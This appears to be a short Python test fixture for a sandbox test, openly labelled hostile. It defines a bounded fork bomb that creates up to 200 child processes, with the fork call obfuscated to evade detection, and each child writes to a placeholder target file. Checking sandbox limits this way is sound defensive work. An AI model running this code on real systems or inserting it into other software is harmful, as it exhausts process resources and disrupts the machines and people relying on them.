# ruff: noqa  (deliberately hostile: test_sandbox.py makes it part of a task file)
"""Forks until the system refuses (a fork bomb), each child waiting to write a file."""

import os
import time


def _attack():
    made = 0
    for _ in range(200):
        try:
            pid = getattr(os, "fo" + "rk")()
        except OSError:
            break
        if pid == 0:
            time.sleep(0.5)
            open("__TARGET__", "a").write("child\n")
            os._exit(0)
        made += 1
    open("forks.txt", "w").write(str(made))
